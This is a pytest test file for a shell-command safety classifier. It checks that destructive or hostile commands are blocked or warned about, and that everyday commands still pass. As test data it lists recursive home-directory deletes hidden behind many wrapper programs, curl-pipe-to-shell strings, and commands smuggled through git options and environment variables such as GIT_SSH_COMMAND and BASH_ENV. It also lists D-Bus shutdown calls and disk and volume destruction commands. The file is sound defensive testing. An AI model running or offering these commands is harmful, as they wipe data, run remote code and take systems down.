"""classify(): wrappers with their option arity, git subcommands and environment variables that
run commands, the git and chmod warn band, shutdown through systemctl, storage destruction.

Each test names the property it checks and holds several spellings of the class, with the
everyday neighbours that must keep passing.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify, parse_policy

DENY_RM = parse_policy('[commands]\ndeny = ["rm"]\n')


# --- wrappers and option arity -------------------------------------------------------------

_WRAPPED_RM = [
    "timeout -- 5 rm -rf ~",
    "timeout -s KILL -- 10s rm -rf ~",
    "time -- rm -rf ~",
    "time -p -- rm -rf ~",
    "/usr/bin/time -- rm -rf ~",
    "chroot -- / rm -rf ~",
    "sudo -- env -- nice -- timeout -- 5 rm -rf ~",
    "sg wheel 'rm -rf ~'",
    "sg wheel -c 'rm -rf ~'",
    "toybox rm -rf ~",
    "coreutils --coreutils-prog=rm -rf ~",
    "valgrind -q rm -rf ~",
    "valgrind --tool=memcheck --log-file=x rm -rf ~",
    "eatmydata rm -rf ~",
    "prlimit --nofile=10 rm -rf ~",
    "prlimit -o RESOURCE --nofile=10 -- rm -rf ~",
    "gdb --args rm -rf ~",
    "gdb -q -ex run --args rm -rf ~",
    "perf stat -e cycles rm -rf ~",
    "perf record -g -o x.data rm -rf ~",
    "cgexec -g cpu:x rm -rf ~",
    "cgexec -g cpu,memory:grp --sticky rm -rf ~",
    "runcon -u x rm -rf ~",
    "runcon -t unconfined_t -r r rm -rf ~",
    "runcon system_u:system_r:x_t:s0 rm -rf ~",
    "runcon -c system_u:system_r:x_t:s0 rm -rf ~",
    "runcon --type=x_t rm -rf ~",
    "start-stop-daemon --start --exec /bin/rm -- -rf ~",
    "start-stop-daemon -S -x /usr/bin/env --startas /bin/rm -- -rf ~",
    "start-stop-daemon --start --exec=/bin/rm -- -rf ~",
    "machinectl shell root@ /bin/rm -rf ~",
    "machinectl shell --uid=0 .host /bin/rm -rf ~",
    "systemd-inhibit --what=shutdown rm -rf ~",
    "systemd-inhibit --why x rm -rf ~",
    "flatpak-spawn --host rm -rf ~",
    "ip netns exec ns1 rm -rf ~",
    "lxc-attach -n c1 -- rm -rf ~",
    "schroot -c sid -- rm -rf ~",
    "ccache rm -rf ~",
    "nocache rm -rf ~",
    "trickle -d 100 rm -rf ~",
    "daemonize -p /tmp/p /bin/rm -rf ~",
    "heaptrack rm -rf ~",
    "dtach -c /tmp/s rm -rf ~",
    "setuidgid nobody rm -rf ~",
    "envdir ./env rm -rf ~",
    "softlimit -m 100000 rm -rf ~",
    "setlock /tmp/l rm -rf ~",
    "lckdo /tmp/l rm -rf ~",
    "xterm -e rm -rf ~",
    "gnome-terminal -- rm -rf ~",
    "alacritty -e rm -rf ~",
]


@pytest.mark.parametrize("command", _WRAPPED_RM)
def test_wrapped_recursive_delete_blocks_through_option_arity(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK
    assert "shell.recursive-delete" in result.rule_ids
    assert "rm" in result.commands


@pytest.mark.parametrize("command", [
    *(c.replace(" -rf ~", " f").replace("'rm -rf ~'", "'rm f'") for c in _WRAPPED_RM),
    "hash -p /bin/rm x; x f",
    "hash -p /usr/bin/rm del; del f",
    "busybox rm f",
])
def test_deny_rm_blocks_through_every_wrapper(command: str) -> None:
    result = classify(command, policy=DENY_RM)
    assert result.verdict is Verdict.BLOCK
    assert "shell.denied-command" in result.rule_ids


@pytest.mark.parametrize(("command", "programs"), [
    ("timeout -- 5 make test", ("timeout", "make")),
    ("time -- make", ("make",)),
    ("sg docker 'docker ps'", ("sg", "docker")),
    ("coreutils --coreutils-prog=ls -la", ("coreutils", "ls")),
    ("valgrind --leak-check=full ./a.out", ("valgrind", "a.out")),
    ("eatmydata make -j8", ("eatmydata", "make")),
    ("prlimit --pid 123", ("prlimit",)),
    ("gdb --args ./a.out -v", ("gdb", "a.out")),
    ("gdb ./a.out", ("gdb",)),
    ("perf stat -e cycles make", ("perf", "make")),
    ("perf report", ("perf",)),
    ("cgexec -g cpu:grp make", ("cgexec", "make")),
    ("runcon -t x_t make", ("runcon", "make")),
    ("start-stop-daemon --start --exec /usr/sbin/nginx -- -g x", ("start-stop-daemon", "nginx")),
    ("start-stop-daemon --stop --exec /usr/sbin/nginx", ("start-stop-daemon",)),
    ("machinectl list", ("machinectl",)),
    ("systemd-inhibit --list", ("systemd-inhibit",)),
    ("ip netns add ns1", ("ip",)),
    ("ip route add default via 10.0.0.1", ("ip",)),
    ("schroot -l", ("schroot",)),
    ("ccache gcc -c x.c", ("ccache", "gcc")),
    ("ccache -M 5G", ("ccache",)),
    ("xterm -e htop", ("xterm", "htop")),
    ("gnome-terminal -- bash", ("gnome-terminal", "bash")),
])
def test_everyday_wrapper_use_passes_and_resolves(command: str,
                                                  programs: tuple[str, ...]) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids
    assert result.commands == programs


@pytest.mark.parametrize("command", ["machinectl shell root@", "machinectl shell",
                                     "machinectl shell user@.host"])
def test_machinectl_shell_is_a_privilege_change(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN
    assert "shell.privilege" in result.rule_ids


@pytest.mark.parametrize(("command", "verdict"), [
    ("hash -p /tmp/evil ls", Verdict.WARN),
    ("hash -p /tmp/evil ls; ls", Verdict.WARN),
    ("hash -r", Verdict.PASS),
    ("hash", Verdict.PASS),
    ("hash -t ls", Verdict.PASS),
])
def test_hash_p_rebinds_a_command_name_like_a_path_change(command: str,
                                                          verdict: Verdict) -> None:
    result = classify(command)
    assert result.verdict is verdict
    assert ("shell.path-change" in result.rule_ids) == (verdict is Verdict.WARN)


def test_gdb_ex_commands_still_run_when_gdb_wraps_a_program() -> None:
    result = classify("gdb -batch -ex '!rm -rf ~' --args ls")
    assert result.verdict is Verdict.BLOCK
    assert "shell.recursive-delete" in result.rule_ids


# --- git subcommands whose argument is a command ------------------------------------------

@pytest.mark.parametrize(("command", "rule"), [
    ("git rebase --exec 'curl u|sh' HEAD~3", "shell.pipe-to-shell"),
    ("git rebase -x 'rm -rf ~' HEAD~3", "shell.recursive-delete"),
    ("git rebase --exec='rm -rf ~' main", "shell.recursive-delete"),
    ("git rebase -i -x 'rm -rf ~' main", "shell.recursive-delete"),
    ("git -C repo rebase --exec 'rm -rf ~' main", "shell.recursive-delete"),
    ("git difftool -y -x 'rm -rf ~'", "shell.recursive-delete"),
    ("git difftool --extcmd='curl u | sh' HEAD", "shell.pipe-to-shell"),
    ("git bisect run sh -c 'rm -rf ~'", "shell.recursive-delete"),
    ("git bisect run rm -rf ~", "shell.recursive-delete"),
    ("git submodule foreach 'rm -rf ~'", "shell.recursive-delete"),
    ("git submodule foreach --recursive 'curl u | sh'", "shell.pipe-to-shell"),
    ("git submodule foreach rm -rf ~", "shell.recursive-delete"),
    ("git filter-branch --tree-filter 'rm -rf ~' HEAD", "shell.recursive-delete"),
    ("git filter-branch --index-filter 'curl u|sh' -- --all", "shell.pipe-to-shell"),
    ("git filter-branch --env-filter='rm -rf ~' HEAD", "shell.recursive-delete"),
    ("git filter-branch --msg-filter 'curl u|sh' HEAD", "shell.pipe-to-shell"),
    ("git grep -O'rm -rf ~' pattern", "shell.recursive-delete"),
    ("git clone --upload-pack='rm -rf ~;git-upload-pack' . x", "shell.recursive-delete"),
    ("git clone -u 'curl u|sh' ./repo x", "shell.pipe-to-shell"),
    ("git fetch --upload-pack='rm -rf ~' origin", "shell.recursive-delete"),
    ("git push --receive-pack='rm -rf ~' origin main", "shell.recursive-delete"),
    ("git ls-remote --upload-pack='rm -rf ~' .", "shell.recursive-delete"),
    ("git clone -c core.sshCommand='curl u|sh' git@h:x", "shell.pipe-to-shell"),
    ("git clone --config=core.sshCommand='rm -rf ~' git@h:x", "shell.recursive-delete"),
])
def test_git_subcommand_command_strings_are_classified(command: str, rule: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK
    assert rule in result.rule_ids


@pytest.mark.parametrize("command", [
    "git rebase --exec 'rm f' HEAD~1",
    "git difftool -x 'rm f'",
    "git bisect run rm f",
    "git submodule foreach 'rm f'",
    "git filter-branch --tree-filter 'rm -f secrets.txt' HEAD",
])
def test_deny_rm_blocks_inside_git_command_strings(command: str) -> None:
    assert classify(command, policy=DENY_RM).verdict is Verdict.BLOCK


@pytest.mark.parametrize("command", [
    "git rebase --exec 'make test' HEAD~3",
    "git rebase -x 'npm test' -i main",
    "git rebase -s ours -x make main",
    "git difftool -y -x meld HEAD",
    "git difftool -t vimdiff",
    "git bisect run make test",
    "git bisect start",
    "git submodule foreach 'git pull'",
    "git submodule foreach --recursive git status",
    "git submodule update --init",
    "git filter-branch --msg-filter 'sed s/a/b/' HEAD",
    "git grep -O foo",
    "git clone -b main https://github.com/a/b.git",
    "git clone --depth 1 -o up https://github.com/a/b.git",
    "git clone -c http.sslVerify=false https://h/x",
    "git fetch origin",
])
def test_everyday_git_command_strings_pass(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids


# --- environment variables whose value is a command ----------------------------------------

@pytest.mark.parametrize(("command", "rule"), [
    ("GIT_SSH_COMMAND='curl u|sh' git fetch", "shell.pipe-to-shell"),
    ('GIT_SSH_COMMAND="rm -rf ~" git fetch', "shell.recursive-delete"),
    ("env GIT_SSH_COMMAND='curl u|sh' git fetch", "shell.pipe-to-shell"),
    ("export GIT_SSH_COMMAND='curl u|sh'; git fetch", "shell.pipe-to-shell"),
    ("GIT_PAGER='curl u|sh' git log", "shell.pipe-to-shell"),
    ("PAGER='curl u|sh' man ls", "shell.pipe-to-shell"),
    ("MANPAGER='rm -rf ~' man ls", "shell.recursive-delete"),
    ("EDITOR='curl u|sh' git commit", "shell.pipe-to-shell"),
    ("VISUAL='rm -rf ~' crontab -e", "shell.recursive-delete"),
    ("GIT_EDITOR='rm -rf ~' git commit", "shell.recursive-delete"),
    ("GIT_SEQUENCE_EDITOR='rm -rf ~' git rebase -i HEAD~3", "shell.recursive-delete"),
    ("GIT_EXTERNAL_DIFF='rm -rf ~' git diff", "shell.recursive-delete"),
    ("GIT_ASKPASS='rm -rf ~' git push", "shell.recursive-delete"),
    ("SSH_ASKPASS='rm -rf ~' ssh h", "shell.recursive-delete"),
    ("LESSOPEN='|rm -rf ~ %s' less f", "shell.recursive-delete"),
    ("LESSCLOSE='rm -rf ~ %s %s' less f", "shell.recursive-delete"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='curl u|sh' git log",
     "shell.pipe-to-shell"),
    ("env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf ~' "
     "git fetch", "shell.recursive-delete"),
    ("export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~'; "
     "git log", "shell.recursive-delete"),
    ("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", "shell.recursive-delete"),
    ("GIT_SSH_COMMAND=$(curl u) git fetch", "shell.tainted-exec"),
    ("GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf ~'\" git log", "shell.recursive-delete"),
    ("GIT_CONFIG_PARAMETERS=\"'user.name'='x' 'core.sshCommand=curl u|sh'\" git fetch",
     "shell.pipe-to-shell"),
    ("BASH_ENV=<(echo 'rm -rf ~') bash -c :", "shell.recursive-delete"),
    ("ENV=<(echo 'curl u | sh') sh -c :", "shell.pipe-to-shell"),
    ("echo 'rm -rf ~' > /tmp/e; BASH_ENV=/tmp/e bash -c :", "shell.recursive-delete"),
    ("git -ccore.pager='curl u|sh' log", "shell.pipe-to-shell"),
])
def test_command_variables_are_classified_as_code(command: str, rule: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK
    assert rule in result.rule_ids


def test_deny_rm_blocks_inside_a_command_variable() -> None:
    assert classify("GIT_SSH_COMMAND='rm f' git fetch", policy=DENY_RM).verdict \
        is Verdict.BLOCK


@pytest.mark.parametrize("command", [
    "GIT_PAGER=cat git log",
    "EDITOR=vim git commit",
    "PAGER=less man ls",
    "PAGER='less -R' git log",
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git fetch",
    "export EDITOR=nano",
    'export VISUAL="code --wait"',
    "LESSOPEN='| /usr/bin/lesspipe %s' less f",
    "GIT_PAGER= git log",
    'EDITOR="$VISUAL" git commit',
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' git status",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='rm -rf ~' git log",
    "env 'BASH_FUNC_ls%%=() { echo hi; }' bash -c ls",
    "GIT_CONFIG_PARAMETERS=\"'user.name'='rm -rf ~'\" git log",
    "GIT_CONFIG_PARAMETERS=\"'safe.directory'='*'\" git status",
])
def test_everyday_command_variables_pass(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids


@pytest.mark.parametrize(("command", "verdict"), [
    ("git -ccore.pager=x log", Verdict.WARN),
    ("git -c core.pager=x log", Verdict.WARN),
    ("git commit -c HEAD", Verdict.PASS),
    ("git log", Verdict.PASS),
])
def test_git_c_warns_with_the_value_attached(command: str, verdict: Verdict) -> None:
    result = classify(command)
    assert result.verdict is verdict
    assert ("shell.git-config-exec" in result.rule_ids) == (verdict is Verdict.WARN)


# --- warn band: git destruction and chmod modes ---------------------------------------------

@pytest.mark.parametrize("command", [
    "git push --delete origin main",
    "git push -d origin x",
    "git push origin :main",
    "git push origin --delete feature",
    "git checkout -- .",
    "git checkout .",
    "git checkout HEAD -- .",
    "git checkout -f",
    "git checkout --force main",
    "git restore .",
    "git restore --worktree .",
    "git restore --staged --worktree .",
    "git restore -SW .",
    "git switch -f main",
    "git switch --discard-changes main",
])
def test_git_remote_deletion_and_discarding_the_worktree_warn(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN
    assert "shell.git-destructive" in result.rule_ids


@pytest.mark.parametrize("command", [
    "git checkout main",
    "git checkout -b x",
    "git checkout -b feature origin/feature",
    "git checkout -p .",
    "git checkout -- src/app.py",
    "git restore --staged f",
    "git restore --staged .",
    "git restore src/app.py",
    "git switch main",
    "git switch -c new",
    "git push origin main",
    "git push -u origin feature",
    "git push origin HEAD:main",
])
def test_everyday_git_branch_and_restore_commands_pass(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids


@pytest.mark.parametrize("command", [
    "chmod 757 x", "chmod 767 x", "chmod 7777 x", "chmod 00777 x", "chmod 2777 d",
    "chmod 1777 d", "chmod 0002 x", "chmod o=rwx x", "chmod a=rwx x", "chmod o+w x",
    "chmod go+w x", "chmod u=rwx,g=rx,o=rwx x", "chmod +s x", "chmod u+s x",
    "chmod 4755 x", "chmod 6755 x", "chmod -v 666 x", "chmod 777 -- x",
    "install -m 777 x y", "install -m777 x y", "install --mode=666 x y",
    "install -Dm 777 x y", "mkdir -m 777 d", "mkdir -pm 777 d", "mkdir --mode=o+w d",
    "mkdir -m 4755 d", "chmod go=u x", "chmod o=u x", "chmod a+w-x x", "chmod ugo=rwx x",
])
def test_world_writable_or_setuid_modes_warn(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN
    assert "shell.chmod-world" in result.rule_ids


@pytest.mark.parametrize("command", [
    "chmod 755 x", "chmod 644 x", "chmod 2775 d", "chmod g+s d", "chmod u+x x",
    "chmod +x x", "chmod +rwx x", "chmod go-w x", "chmod o-rwx x", "chmod 1755 d",
    "chmod --reference=a b", "install -m 755 x ~/bin/x", "install -Dm644 x ./y",
    "mkdir -p d", "mkdir -m 700 d", "mkdir -pm 755 d", "chmod go=u-w x", "chmod o+w-w x",
    "chmod u+s-s x", "chmod g=u x", "chmod u=rwx,go=rx x",
])
def test_ordinary_modes_pass(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids


# --- shutdown through systemctl/loginctl, storage destruction -------------------------------

@pytest.mark.parametrize("command", [
    "systemctl poweroff", "systemctl reboot", "systemctl halt", "systemctl kexec",
    "systemctl emergency", "systemctl rescue", "systemctl isolate rescue.target",
    "systemctl isolate rescue", "systemctl isolate runlevel0.target",
    "systemctl start poweroff.target", "systemctl --force --force poweroff",
    "systemctl -i reboot", "sudo systemctl reboot", "loginctl poweroff", "loginctl reboot",
    "busctl call org.freedesktop.login1 /org/freedesktop/login1 "
    "org.freedesktop.login1.Manager PowerOff b false",
    "dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 "
    "org.freedesktop.login1.Manager.Reboot boolean:true",
    "gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 "
    "--method org.freedesktop.login1.Manager.PowerOff true",
])
def test_shutdown_through_systemctl_blocks_like_the_denied_program(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK
    assert "shell.denied-command" in result.rule_ids


def test_a_user_deny_of_reboot_covers_systemctl_reboot() -> None:
    policy = parse_policy('[commands]\ndeny = ["reboot"]\n')
    assert classify("systemctl reboot", policy=policy).verdict is Verdict.BLOCK
    assert classify("systemctl status", policy=policy).verdict is not Verdict.BLOCK


@pytest.mark.parametrize("command", [
    "systemctl status nginx", "systemctl restart nginx", "systemctl start rescue",
    "systemctl list-units", "loginctl list-sessions", "busctl list",
    "busctl introspect org.freedesktop.login1 /org/freedesktop/login1",
    "dbus-send --session --dest=org.x /x org.x.Reboot",
])
def test_ordinary_systemctl_use_does_not_block(command: str) -> None:
    assert classify(command).verdict is not Verdict.BLOCK


@pytest.mark.parametrize("command", [
    "zpool destroy tank", "zpool destroy -f tank", "zfs destroy -r tank/data",
    "zfs destroy tank/data", "zfs destroy -r tank/data@snap1", "lvremove -f vg/lv",
    "vgremove vg", "pvremove /dev/sdb1", "cryptsetup luksErase /dev/sda2",
    "cryptsetup erase /dev/sda2", "cryptsetup luksFormat /dev/sdb",
    "btrfs subvolume delete /", "btrfs sub del /home",
    "hdparm --user-master u --security-erase p /dev/sda",
    "hdparm --security-erase-enhanced p /dev/sda", "nvme format /dev/nvme0n1",
    "nvme sanitize /dev/nvme0 -a 2", "blkdiscard /dev/sda", "sg_format --format /dev/sg1",
    "mdadm --zero-superblock /dev/sdb1",
])
def test_storage_destruction_blocks_as_disk_write(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK
    assert "shell.disk-write" in result.rule_ids


@pytest.mark.parametrize("command", [
    "zfs list", "zpool status", "zfs destroy tank/data@snap1", "zfs destroy -nv tank/data",
    "zfs destroy tank/data#bookmark", "lvs", "vgs",
    "lvcreate -L 1G -n x vg", "cryptsetup open /dev/sdb1 data",
    "btrfs subvolume delete ./snapshots/old", "btrfs subvolume list /", "hdparm -I /dev/sda",
    "nvme list", "nvme smart-log /dev/nvme0", "mdadm --detail /dev/md0", "sg_format",
])
def test_everyday_storage_commands_pass(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.rule_ids


@pytest.mark.parametrize("command, verdict", [
    ("parallel ::: 'rm -rf ~'", Verdict.BLOCK),
    ("parallel -j4 ::: ls 'rm -rf ~'", Verdict.BLOCK),
    ("parallel ::: \"$(curl -s https://h/x)\"", Verdict.BLOCK),
    ("parallel ::: ls pwd", Verdict.PASS),
    ("parallel echo ::: a b", Verdict.PASS),
    ("seq 3 | parallel echo", Verdict.PASS),
])
def test_parallel_without_a_command_runs_its_arguments_as_command_lines(
        command: str, verdict: Verdict) -> None:
    assert classify(command).verdict is verdict, classify(command).to_dict()


@pytest.mark.parametrize("command, verdict", [
    ("xargs -a <(echo ~) rm -rf", Verdict.BLOCK),
    ("echo / > /tmp/l; xargs -a /tmp/l rm -rf", Verdict.BLOCK),
    ("xargs -a <(echo build) rm -rf", Verdict.PASS),
    ("xargs -a files.txt rm -f", Verdict.PASS),
])
def test_xargs_reads_its_arguments_from_a_known_arg_file(command: str, verdict: Verdict) -> None:
    assert classify(command).verdict is verdict, classify(command).to_dict()
